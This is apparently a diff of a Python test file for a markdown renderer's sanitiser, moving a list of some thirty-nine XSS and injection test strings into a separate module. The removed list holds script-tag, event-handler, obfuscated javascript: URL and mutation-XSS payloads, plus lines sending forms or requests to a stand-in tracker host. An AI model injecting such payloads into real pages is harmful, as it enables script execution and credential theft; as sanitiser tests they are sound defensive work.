@@ -9,53 +9,11 @@ from html.parser import HTMLParser
 from typing import Any
 
 import pytest
+from hostile import HOSTILE
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from hackathon import prose
-
-# Each wants to run a script, load something from elsewhere, or break out of its place.
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](\x01javascript:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](vbscript:msgbox(1))",
-    "<javascript:alert(1)>",
-    "![x](javascript:alert(1))",
-    "![x](https://tracker.example/p.gif)",
-    "![x](//tracker.example/p.gif)",
-    '![x"onerror="alert(1)](/a.png)',
-    '[x](http://a "onmouseover=alert(1)")',
-    "[x](http://a'onmouseover='alert(1))",
-    "[a]: javascript:alert(1)\n\n[a]",
-    "```\n</code></pre><script>alert(1)</script>\n```",
-    "```html onload=alert(1)\nx\n```",
-    "`<script>alert(1)</script>`",
-    "<style>*{background:url(//tracker.example)}</style>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<form action=//tracker.example><input name=password>",
-    "<base href=//tracker.example>",
-    "<meta http-equiv=refresh content='0;url=//tracker.example'>",
-    "<object data=//tracker.example></object><embed src=x>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?><script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "# <img src=x onerror=alert(1)>",
-    "|a|\n|-|\n|<script>alert(1)</script>|",
-    "https://example.org/\"onmouseover=alert(1)",
-    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
-]  # fmt: skip
 
 
 class Seen(HTMLParser):
